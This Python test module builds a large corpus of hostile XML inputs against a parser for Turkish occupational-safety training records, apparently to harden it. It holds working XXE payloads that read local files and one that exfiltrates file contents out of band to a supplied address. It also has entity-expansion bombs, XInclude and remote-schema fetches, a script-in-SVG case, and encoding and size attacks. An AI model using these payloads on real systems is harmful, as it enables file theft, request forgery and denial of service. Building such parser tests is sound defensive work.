# ruff: noqa: E501 - a case is one line
"""Hostile XML: each case is a name and bytes. Nothing here is well meant; `good` is the record they all start from."""

from __future__ import annotations

from collections.abc import Callable

FIELDS = (
    "<belgeTipi>2</belgeTipi><isgProfTckNo>81234567804</isgProfTckNo>"
    "<calisan><calisanTckNo>80000000132</calisanTckNo></calisan>"
    "<egitim><egitimKoduId>240</egitimKoduId><egitimSuresi>40</egitimSuresi></egitim>"
    "<egitimTarihi>2025-10-23</egitimTarihi><egitimYer>1</egitimYer><egitimTur>1</egitimTur>"
    "<sgkTescilNo>29999010100001230069994000</sgkTescilNo><egiticiTckNo>81234567804</egiticiTckNo>"
)
GOOD = f'<egitim-kaydi id="X-1">{FIELDS}</egitim-kaydi>'
MARK = "KANARYA-7391"  # what stands in the file that XXE reads: it must never be seen anywhere


def good() -> bytes:
    return GOOD.encode()


def cases(secret: str, address: str) -> dict[str, bytes]:
    """Every case; `secret` is the path of a readable file, `address` an http address that listens."""
    text = {**_doctype(secret, address), **_markup(secret, address), **_names(), **_shape()}
    return {**{name: each.encode("utf-8", "surrogatepass") for name, each in text.items()}, **_bytes(), **_big()}


def _with(worker: str, doctype: str = "", before: str = '<?xml version="1.0" encoding="UTF-8"?>') -> str:
    return before + doctype + GOOD.replace("80000000132", worker)


def _doctype(secret: str, address: str) -> dict[str, str]:
    def dtd(inside: str) -> str:
        return f"<!DOCTYPE egitim-kaydi [{inside}]>"

    laughs = '<!ENTITY a0 "80000000132">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return {
        "doctype_empty": _with("80000000132", "<!DOCTYPE egitim-kaydi>"),
        "doctype_lower_case": _with("80000000132", "<!doctype egitim-kaydi>"),
        "doctype_after_comment": _with("80000000132", "<!-- x --><!DOCTYPE egitim-kaydi>"),
        "doctype_internal_entity": _with("&e;", dtd('<!ENTITY e "80000000132">')),
        "xxe_file": _with("&e;", dtd(f'<!ENTITY e SYSTEM "file://{secret}">')),
        "xxe_file_in_attribute": _with("80000000132", dtd(f'<!ENTITY e SYSTEM "file://{secret}">')).replace(
            "X-1", "&e;"
        ),
        "xxe_http": _with("&e;", dtd(f'<!ENTITY e SYSTEM "{address}/xxe">')),
        "xxe_ftp": _with("&e;", dtd(f'<!ENTITY e SYSTEM "{address.replace("http", "ftp")}/xxe">')),
        "xxe_public": _with("&e;", dtd(f'<!ENTITY e PUBLIC "-//X//Y" "file://{secret}">')),
        "xxe_php_filter": _with("&e;", dtd('<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource=x">')),
        "xxe_jar": _with("&e;", dtd(f'<!ENTITY e SYSTEM "jar:file://{secret}!/a">')),
        "xxe_windows_share": _with("&e;", dtd(r'<!ENTITY e SYSTEM "\\127.0.0.1\c$\x">')),
        "xxe_parameter": _with("80000000132", dtd(f'<!ENTITY % p SYSTEM "{address}/p.dtd"> %p;')),
        "xxe_parameter_file": _with("80000000132", dtd(f'<!ENTITY % p SYSTEM "file://{secret}"> %p;')),
        "xxe_parameter_out_of_band": _with(
            "80000000132",
            dtd(
                f'<!ENTITY % f SYSTEM "file://{secret}"><!ENTITY % x "<!ENTITY &#37; s SYSTEM \'{address}/?%f;\'>">%x;%s;'
            ),
        ),
        "xxe_unparsed": _with(
            "80000000132", dtd(f'<!NOTATION n SYSTEM "n"><!ENTITY e SYSTEM "file://{secret}" NDATA n>')
        ),
        "external_dtd_file": _with("80000000132", f'<!DOCTYPE egitim-kaydi SYSTEM "file://{secret}">'),
        "external_dtd_http": _with("80000000132", f'<!DOCTYPE egitim-kaydi SYSTEM "{address}/x.dtd">'),
        "billion_laughs": _with("&a9;", dtd(laughs)),
        "billion_laughs_in_attribute": _with("80000000132", dtd(laughs)).replace("X-1", "&a9;"),
        "billion_laughs_by_parameter": _with(
            "80000000132", dtd('<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;%a;"><!ENTITY % c "%b;%b;%b;%b;">%c;')
        ),
        "entity_of_itself": _with("&e;", dtd('<!ENTITY e "&e;">')),
        "entity_hides_markup": _with("&e;", dtd('<!ENTITY e "80000000132</calisanTckNo><calisanTckNo>">')),
        "default_attribute_by_dtd": _with("80000000132", dtd('<!ATTLIST egitim-kaydi version CDATA "2018-07">')),
        "standalone_with_dtd": _with(
            "80000000132", dtd('<!ENTITY e "1">'), '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        ),
        "undeclared_entity": _with("&e;"),
        "undeclared_parameter": _with("%e;"),
        "html_entity": _with("&nbsp;80000000132"),
        "unfinished_doctype": _with("80000000132", "<!DOCTYPE egitim-kaydi ["),
    }


def _markup(secret: str, address: str) -> dict[str, str]:
    sheet = f'<?xml-stylesheet type="text/xsl" href="{address}/x.xsl"?>'
    root = "<egitim-kaydi "
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    return {
        "comment_inside_a_value": _with("8000000<!-- -->0132"),
        "comment_hides_a_worker": _with(
            "80000000132</calisanTckNo><!-- <calisanTckNo>81234567804</calisanTckNo> --><calisanTckNo>80000000132"
        ),
        "comment_after_the_root": GOOD + "<!-- x -->",
        "cdata_value": _with("<![CDATA[80000000132]]>"),
        "cdata_in_part": _with("8000<![CDATA[0000132]]>"),
        "cdata_unfinished": _with("<![CDATA[80000000132"),
        "cdata_end_in_text": _with("80000000132]]>"),
        "instruction_inside_a_value": _with("8000000<?x y?>0132"),
        "instruction_after_the_root": GOOD + "<?x y?>",
        "stylesheet": _with("80000000132", sheet),
        "stylesheet_first": sheet + GOOD,
        "second_declaration": _with("80000000132", '<?xml version="1.0"?>'),
        "declaration_not_first": " " + _with("80000000132"),
        "xinclude_file": _with(
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://{secret}"/>'
        ),
        "xinclude_http": _with(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}/i"/>'),
        "schema_location": GOOD.replace(root, f'{root}{xsi} xsi:schemaLocation="x {address}/x.xsd" '),
        "no_namespace_schema_location": GOOD.replace(
            root, f'{root}{xsi} xsi:noNamespaceSchemaLocation="file://{secret}" '
        ),
        "xsi_nil": GOOD.replace("<egitimYer>", f'<egitimYer {xsi} xsi:nil="true">'),
        "xsi_type": GOOD.replace("<egitimYer>", f'<egitimYer {xsi} xsi:type="x">'),
        "xml_base": GOOD.replace(root, f'{root}xml:base="{address}/" '),
        "xml_space": GOOD.replace(root, f'{root}xml:space="preserve" '),
        "xml_lang": GOOD.replace("<egitimYer>", '<egitimYer xml:lang="tr">'),
        "xml_id": GOOD.replace(root, f'{root}xml:id="X-2" '),
        "soap_mustunderstand": GOOD.replace("<egitimYer>", '<egitimYer mustUnderstand="1">'),
    }


def _names() -> dict[str, str]:
    root = "<egitim-kaydi "
    return {
        "default_namespace": GOOD.replace(root, f'{root}xmlns="urn:x" '),
        "prefixed_root": GOOD.replace("egitim-kaydi", "a:egitim-kaydi").replace(" id=", ' xmlns:a="urn:a" id='),
        "prefix_not_declared": GOOD.replace("<egitimYer>1</egitimYer>", "<b:egitimYer>1</b:egitimYer>"),
        "unused_namespace": GOOD.replace(root, f'{root}xmlns:z="urn:z" '),
        "namespace_undone": GOOD.replace("<egitimYer>", '<egitimYer xmlns="">').replace(root, f'{root}xmlns="urn:x" '),
        "xml_prefix_taken": GOOD.replace(root, f'{root}xmlns:xml="urn:x" '),
        "attribute_twice": GOOD.replace(root, f'{root}id="X-2" '),
        "attribute_twice_by_namespace": GOOD.replace(root, f'{root}xmlns:a="urn:a" xmlns:b="urn:a" a:q="1" b:q="2" '),
        "attribute_unknown": GOOD.replace(root, f'{root}signed="yes" '),
        "field_as_attribute": GOOD.replace("<egitimYer>1</egitimYer>", "").replace(root, f'{root}egitimYer="1" '),
        "field_twice": GOOD.replace("<egitimYer>1", "<egitimYer>0</egitimYer><egitimYer>1"),
        "member_twice": GOOD.replace(
            "<calisanTckNo>80000000132", "<calisanTckNo>81234567804</calisanTckNo><calisanTckNo>80000000132"
        ),
        "id_as_field": GOOD.replace("<egitimYer>", "<id>X-2</id><egitimYer>"),
        "root_in_other_case": GOOD.replace("egitim-kaydi", "Egitim-Kaydi"),
        "root_unknown": GOOD.replace("egitim-kaydi", "EgitimDVO"),
        "kelvin_sign_in_name": GOOD.replace("<egitimYer>1</egitimYer>", "<eğitimYer>1</eğitimYer>"),
        "cyrillic_name": GOOD.replace("egitimYer", "еgitimYer"),
        "slash_in_name": GOOD.replace("<egitimYer>", "<egitimYer/../x>"),
    }


def _shape() -> dict[str, str]:
    return {
        "two_roots": GOOD + GOOD.replace("X-1", "X-2"),
        "trailing_text": GOOD + "x",
        "trailing_garbage_after_many": f"<kayitlar>{GOOD}</kayitlar>]]>",
        "text_before": "x" + GOOD,
        "text_between_records": f"<kayitlar>{GOOD}80000000132{GOOD.replace('X-1', 'X-2')}</kayitlar>",
        "text_before_the_first": f"<kayitlar>x{GOOD}</kayitlar>",
        "text_after_the_last": f"<kayitlar>{GOOD}x</kayitlar>",
        "text_beside_fields": GOOD.replace("<egitimYer>", "81234567804<egitimYer>"),
        "element_in_a_value": _with("8000<b>0000</b>132"),
        "record_in_a_record": GOOD.replace("<egitimYer>", f"{GOOD}<egitimYer>"),
        "record_too_deep": f"<kayitlar><kayitlar>{GOOD}</kayitlar></kayitlar>",
        "cut_short": GOOD[:-20],
        "cut_short_after_a_good_one": f"<kayitlar>{GOOD}{GOOD[:-30]}",
        "crossed_tags": GOOD.replace("</calisanTckNo></calisan>", "</calisan></calisanTckNo>"),
        "bare_ampersand": _with("8000 & 0132"),
        "bare_less_than": _with("8000 < 0132"),
        "reference_to_null": _with("80000000132&#0;"),
        "reference_to_control": _with("&#8;80000000132"),
        "reference_to_surrogate": _with("&#xD800;80000000132"),
        "reference_beyond_unicode": _with("&#x110000;80000000132"),
        "reference_of_great_length": _with("&#" + "0" * 5000 + "56;0000000132"),
        "control_character": _with("8000\x010000132"),
        "escape_character": _with("\x1b[2J80000000132"),
        "delete_and_c1": _with("80000000132\x85\x9b"),
        "bidi_override": _with("\u202e80000000132"),
        "zero_width_inside": _with("8000\u200b0000132"),
        "full_width_digits": _with("８００００００００１３２"),
        "not_a_character": _with("80000000132\ufffe"),
        "xml_1_1": _with("80000000132", before='<?xml version="1.1" encoding="UTF-8"?>'),
        "xml_1_1_control": _with("&#1;80000000132", before='<?xml version="1.1"?>'),
        "version_2": _with("80000000132", before='<?xml version="2.0"?>'),
        "standalone_maybe": _with("80000000132", before='<?xml version="1.0" standalone="maybe"?>'),
        "empty": "",
        "only_a_declaration": '<?xml version="1.0"?>',
        "only_space": " \n ",
        "html": "<!DOCTYPE html><html><body>Oturum süresi doldu</body></html>",
        "soap_fault": '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><s:Fault/></s:Body></s:Envelope>',
        "svg_script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    }


def _bytes() -> dict[str, bytes]:
    def declared(name: str) -> bytes:
        return f'<?xml version="1.0" encoding="{name}"?>'.encode() + good()

    worker = b"80000000132"
    seven = declared("UTF-7").replace(b"<egitimYer>", b"+ADw-egitimYer+AD4-")
    return {
        "utf_7": seven,
        "utf_16_with_bom": GOOD.encode("utf-16"),
        "utf_16_le_without_bom": GOOD.encode("utf-16-le"),
        "utf_16_be_without_bom": GOOD.encode("utf-16-be"),
        "utf_16_with_doctype": f"<!DOCTYPE egitim-kaydi []>{GOOD}".encode("utf-16"),
        "utf_16_declared_only": declared("UTF-16"),
        "utf_32": GOOD.encode("utf-32"),
        "ebcdic": f'<?xml version="1.0" encoding="cp037"?>{GOOD}'.encode("cp037"),
        "ebcdic_declared_only": declared("cp037"),
        "windows_1254_undeclared": good().replace(worker, "ŞİĞ".encode("cp1254")),
        "utf_8_declared_but_1254": declared("UTF-8").replace(worker, "ŞİĞ".encode("cp1254")),
        "encoding_unknown": declared("x-nonsense"),
        "encoding_of_python": declared("unicode_escape"),
        "encoding_shift_jis": declared("Shift_JIS"),
        "encoding_iso_2022": declared("ISO-2022-JP"),
        "encoding_hz": declared("HZ-GB-2312"),
        "encoding_of_great_length": declared("U" * 100_000),
        "null_inside": good().replace(worker, b"8000\x000000132"),
        "null_at_the_end": good() + b"\0",
        "overlong_slash": good().replace(worker, b"\xc0\xaf80000000132"),
        "overlong_less_than": good().replace(b"<egitimYer>", b"\xc0\xbcegitimYer>"),
        "overlong_three_bytes": good().replace(worker, b"\xe0\x80\xbc"),
        "surrogate_in_utf_8": good().replace(worker, b"\xed\xa0\x80" + worker),
        "surrogate_pair_in_utf_8": good().replace(worker, b"\xed\xa0\xbd\xed\xb8\x80"),
        "beyond_unicode_in_utf_8": good().replace(worker, b"\xf4\x90\x80\x80"),
        "five_byte_utf_8": good().replace(worker, b"\xf8\x88\x80\x80\x80"),
        "lone_continuation": good().replace(worker, b"\x80" + worker),
        "cut_in_a_letter": good().replace(worker, "ş".encode()[:1]),
        "bom_in_the_middle": good().replace(worker, b"\xef\xbb\xbf" + worker),
        "bom_twice": b"\xef\xbb\xbf\xef\xbb\xbf" + good(),
        "bom_then_utf_16": b"\xef\xbb\xbf" + GOOD.encode("utf-16-le"),
        "bytes_of_chance": bytes(range(256)) * 20,
        "zip": b"PK\x03\x04" + b"\0" * 100,
        "gzip": b"\x1f\x8b\x08" + b"\0" * 100,
    }


def _big() -> dict[str, bytes]:
    def repeated(inside: Callable[[], str]) -> bytes:
        return inside().encode()

    quadratic = f'<!DOCTYPE x [<!ENTITY a "{"A" * 100_000}">]>'
    many = " ".join(f'a{n}="1"' for n in range(100_000))
    return {
        "quadratic_blow_up": repeated(lambda: _with("&a;" * 30_000, quadratic)),
        "deep_nesting": repeated(lambda: "<a>" * 200_000),
        "deep_nesting_in_a_record": repeated(lambda: _with("<a>" * 100_000 + "</a>" * 100_000)),
        "deep_nesting_of_one_name": repeated(lambda: "<egitim-kaydi>" * 50_000 + "</egitim-kaydi>" * 50_000),
        "huge_attribute": repeated(lambda: GOOD.replace("X-1", "A" * 11_000_000)),
        "huge_name": repeated(lambda: f"<{'a' * 11_000_000}/>"),
        "huge_text": repeated(lambda: _with("8" * 11_000_000)),
        "huge_space": repeated(lambda: _with(" " * 20_000_000 + "80000000132")),
        "many_attributes": repeated(lambda: GOOD.replace("<egitimYer>", f"<egitimYer {many}>")),
        "many_attributes_on_the_root": repeated(lambda: GOOD.replace("<egitim-kaydi ", f"<egitim-kaydi {many} ")),
        "many_namespaces": repeated(
            lambda: GOOD.replace("<egitim-kaydi ", "<egitim-kaydi " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(20_000)) + " ")
        ),
        "many_elements": repeated(lambda: GOOD.replace("<egitimYer>", "<x/>" * 1_000_000 + "<egitimYer>")),
        "many_workers": repeated(
            lambda: GOOD.replace("<egitim>", "<calisan><calisanTckNo>80000000132</calisanTckNo></calisan>" * 200_000 + "<egitim>")
        ),
        "many_instructions": repeated(lambda: "<?x y?>" * 500_000 + GOOD),
        "many_comments": repeated(lambda: "<!---->" * 500_000 + GOOD),
        "huge_comment": repeated(lambda: f"<!--{'x' * 20_000_000}-->{GOOD}"),
        "huge_cdata": repeated(lambda: _with(f"<![CDATA[{'8' * 20_000_000}]]>")),
        "huge_declaration": repeated(lambda: f'<?xml version="1.0" {" " * 20_000_000}?>{GOOD}'),
        "unfinished_tag": repeated(lambda: "<egitim-kaydi " + "a" * 20_000_000),
        "many_references": repeated(lambda: _with("&#56;" * 2_000_000)),
        "many_less_than": repeated(lambda: "<" * 5_000_000),
        "one_bad_record_at_the_end_of_many": repeated(
            lambda: "<kayitlar>" + "".join(GOOD.replace("X-1", f"X-{n}") for n in range(3000)) + "<kayitlar>"
        ),
    }  # fmt: skip
